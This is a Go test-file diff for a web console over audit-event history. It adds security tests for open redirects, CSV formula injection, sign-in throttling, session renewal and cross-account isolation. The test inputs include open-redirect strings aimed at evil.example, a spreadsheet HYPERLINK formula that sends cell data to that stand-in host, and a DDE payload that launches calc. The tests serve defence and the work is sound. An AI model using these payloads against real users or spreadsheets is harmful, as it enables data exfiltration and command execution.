@@ -13,6 +13,7 @@ import (
 	"net/url"
 	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -126,7 +127,10 @@ func newHarness(t testing.TB, cfg Config) *harness {
 				return map[string]any{"IsLogging": true}, nil
 			},
 		}})
-	cfg.API, cfg.Keys, cfg.Recorder = api, testKeys{}, syncRecorder{h.st}
+	cfg.API, cfg.Keys = api, testKeys{}
+	if cfg.Recorder == nil {
+		cfg.Recorder = syncRecorder{h.st}
+	}
 	if cfg.Now == nil {
 		cfg.Now = h.clock.now
 	}
@@ -930,5 +934,213 @@ func TestSafeNext(t *testing.T) {
 		if got := safeNext(in); got != want {
 			t.Errorf("safeNext(%q) = %q; want %q", in, got, want)
 		}
+	}
+}
+
+// TestSignInNextStaysInConsole: a sign-in's next that a browser would
+// resolve outside the console (a tab or newline the browser strips, a
+// dot-dot out of /console/, another host) lands on Event History instead.
+func TestSignInNextStaysInConsole(t *testing.T) {
+	h := newHarness(t, Config{})
+	for _, next := range []string{
+		Prefix + "../\t/evil.example/",
+		Prefix + "..//evil.example/",
+		Prefix + "../\n/evil.example/",
+		Prefix + "..\t/\t/evil.example/",
+		Prefix + "../../\x7f/evil.example",
+		Prefix + "..",
+		"/\t/evil.example/console/",
+		"https://evil.example" + Prefix,
+	} {
+		t.Run(strconv.Quote(next), func(t *testing.T) {
+			c := h.browser(t)
+			_, body, _ := get(t, c, h.srv.URL+Prefix+"signin?next="+url.QueryEscape(next))
+			tok := csrfRE.FindStringSubmatch(body)[1]
+			code, _, hdr := post(t, c, h.srv.URL+Prefix+"signin", url.Values{"csrf": {tok}, "access_key_id": {keyA},
+				"secret_access_key": {secretA}, "region": {"us-east-1"}, "next": {next}}, nil)
+			if loc := hdr.Get("Location"); code != http.StatusSeeOther || loc != Prefix+"events?region=us-east-1" {
+				t.Errorf("sign-in with next %q = %d to %q; want Event History", next, code, loc)
+			}
+			if strings.Contains(body, "evil.example") {
+				t.Errorf("the sign-in form carries next %q", next)
+			}
+		})
+	}
+}
+
+// TestDownloadCSVFormulas: record content that a spreadsheet would run as
+// a formula (=, +, -, @, tab, CR first) is downloaded as text; numbers
+// stay numbers.
+func TestDownloadCSVFormulas(t *testing.T) {
+	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"}
+	h := newHarness(t, Config{})
+	now := h.clock.now()
+	for i, f := range formulas {
+		seed(t, h.st, acctA, "us-east-1", 1, now.Add(-time.Duration(i+1)*time.Minute), f, false)
+	}
+	c := h.browser(t)
+	h.signIn(t, c, keyA, secretA)
+	code, body, _ := get(t, c, h.srv.URL+Prefix+"events/download?format=csv&region=us-east-1&k=EventSource&v=s3.amazonaws.com")
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if code != 200 || err != nil {
+		t.Fatalf("CSV download = %d, %v", code, err)
+	}
+	var names []string
+	for _, r := range rows[1:] {
+		names = append(names, r[3])
+	}
+	for _, f := range formulas {
+		if !slices.Contains(names, "'"+f) {
+			t.Errorf("event name %q downloaded as %q; want it behind a '", f, names)
+		}
+	}
+}
+
+// TestCSVCells: csvCells' table (the Lake download's header and rows too).
+func TestCSVCells(t *testing.T) {
+	for in, want := range map[string]string{"-12.5": "-12.5", "+3": "+3", "-": "'-", "abc": "abc", "": "", "=1": "'=1", "@x": "'@x", "a=1": "a=1"} {
+		if got := csvCells([]string{in})[0]; got != want {
+			t.Errorf("csvCells(%q) = %q; want %q", in, got, want)
+		}
+	}
+}
+
+// gateRecorder holds each Commit until n are waiting (or a second has
+// passed), so concurrent sign-ins are all in flight at once.
+type gateRecorder struct {
+	syncRecorder
+	n       int
+	mu      sync.Mutex
+	waiting int
+	open    chan struct{}
+}
+
+func (g *gateRecorder) Commit(ctx context.Context, rs ...audit.Record) error {
+	g.mu.Lock()
+	g.waiting++
+	if g.waiting == g.n {
+		close(g.open)
+	}
+	g.mu.Unlock()
+	select {
+	case <-g.open:
+	case <-time.After(time.Second):
+	}
+	return g.syncRecorder.Commit(ctx, rs...)
+}
+
+// TestSignInThrottledConcurrently: wrong secrets sent at once for one key
+// get no more checks than the key's limit (an attempt counts from its
+// start, not once its ConsoleLogin record is stored).
+func TestSignInThrottledConcurrently(t *testing.T) {
+	const limit, tries = 3, 12
+	st := audittest.NewMemStore()
+	h := newHarness(t, Config{KeyFailures: limit, IPFailures: 100, FailureWindow: time.Minute,
+		Recorder: &gateRecorder{syncRecorder: syncRecorder{st}, n: limit + 1, open: make(chan struct{})}})
+	forms := make([]string, tries)
+	clients := make([]*http.Client, tries)
+	for i := range tries {
+		clients[i] = h.browser(t)
+		_, body, _ := get(t, clients[i], h.srv.URL+Prefix+"signin")
+		forms[i] = csrfRE.FindStringSubmatch(body)[1]
+	}
+	codes := make([]int, tries)
+	var wg sync.WaitGroup
+	for i := range tries {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			req, _ := http.NewRequest("POST", h.srv.URL+Prefix+"signin", strings.NewReader(url.Values{"csrf": {forms[i]},
+				"access_key_id": {keyA}, "secret_access_key": {"wrong"}}.Encode()))
+			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+			if resp, err := clients[i].Do(req); err == nil {
+				codes[i] = resp.StatusCode
+				resp.Body.Close()
+			}
+		}()
+	}
+	wg.Wait()
+	checked := 0
+	for _, code := range codes {
+		switch code {
+		case http.StatusUnauthorized:
+			checked++
+		case http.StatusTooManyRequests:
+		default:
+			t.Errorf("a concurrent sign-in = %d; want 401 or 429", code)
+		}
+	}
+	if checked != limit {
+		t.Errorf("%d of %d concurrent wrong secrets were checked; want the key's limit, %d", checked, tries, limit)
+	}
+	if n := st.Len(); n != limit {
+		t.Errorf("%d ConsoleLogin records; want %d", n, limit)
+	}
+}
+
+// TestSignInEndsPreviousSession: a browser that signs in again (as
+// another account, say) gets a new session ID, and the session its old
+// cookie named ends, so a copy of that cookie no longer works.
+func TestSignInEndsPreviousSession(t *testing.T) {
+	h := newHarness(t, Config{})
+	c := h.browser(t)
+	h.signIn(t, c, keyA, secretA)
+	u, _ := url.Parse(h.srv.URL + Prefix)
+	old := c.Jar.Cookies(u)
+	h.signIn(t, c, keyB, secretB)
+	for _, ck := range c.Jar.Cookies(u) {
+		for _, o := range old {
+			if ck.Name == sessionCookie && o.Name == sessionCookie && ck.Value == o.Value {
+				t.Fatal("signing in again kept the session ID")
+			}
+		}
+	}
+	if code, body, _ := get(t, c, h.srv.URL+Prefix+"events?region=us-east-1"); code != 200 || !strings.Contains(body, acctB) {
+		t.Errorf("after signing in as %s: %d", acctB, code)
+	}
+	stale := h.browser(t)
+	stale.Jar.SetCookies(u, old)
+	if code, _, hdr := get(t, stale, h.srv.URL+Prefix+"events?region=us-east-1"); code != http.StatusSeeOther ||
+		!strings.HasPrefix(hdr.Get("Location"), Prefix+"signin") {
+		t.Errorf("the previous session's cookie = %d to %q; want the sign-in page", code, hdr.Get("Location"))
+	}
+}
+
+// TestIsolationHostileForms: another account's trail ARN in a form, or
+// its Event History NextToken in a URL, reaches the API as the session's
+// own call (the API's handlers refuse what is not the account's), never
+// as the other account's.
+func TestIsolationHostileForms(t *testing.T) {
+	h := newHarness(t, Config{})
+	now := h.clock.now()
+	seed(t, h.st, acctA, "us-east-1", 3, now.Add(-time.Hour), "PutObject", false)
+	idsB := seed(t, h.st, acctB, "us-east-1", 60, now.Add(-time.Hour), "PutObject", false)
+	bob := h.browser(t)
+	h.signIn(t, bob, keyB, secretB)
+	_, body, _ := get(t, bob, h.srv.URL+Prefix+"events?region=us-east-1")
+	next := regexp.MustCompile(`href="([^"]+)" id="page-next"`).FindStringSubmatch(body)
+	if next == nil {
+		t.Fatal("bob's first page has no next page")
+	}
+	nextURL, _ := url.Parse(strings.ReplaceAll(next[1], "&amp;", "&"))
+	alice := h.browser(t)
+	h.signIn(t, alice, keyA, secretA)
+	for _, path := range []string{"events?", "events/download?format=json&", "events/download?format=csv&"} {
+		_, body, _ := get(t, alice, h.srv.URL+Prefix+path+"region=us-east-1&token="+url.QueryEscape(nextURL.Query().Get("token")))
+		for _, id := range idsB {
+			if strings.Contains(body, id) {
+				t.Fatalf("alice's %s with bob's NextToken shows bob's %s", path, id)
+			}
+		}
+	}
+	csrf := h.sessionCSRF(t, alice)
+	arnB := "arn:aws:cloudtrail:us-east-1:" + acctB + ":trail/t"
+	for _, action := range []string{"stop", "start"} {
+		post(t, alice, h.srv.URL+Prefix+"trails/logging", url.Values{"csrf": {csrf}, "region": {"us-east-1"}, "name": {arnB}, "action": {action}}, nil)
+	}
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	if h.handled["StopLogging "+acctB]+h.handled["StartLogging "+acctB] != 0 || h.handled["StopLogging "+acctA] != 1 || h.handled["StartLogging "+acctA] != 1 {
+		t.Errorf("alice's forms naming bob's trail were served as %v; want alice's calls only", h.handled)
 	}
 }
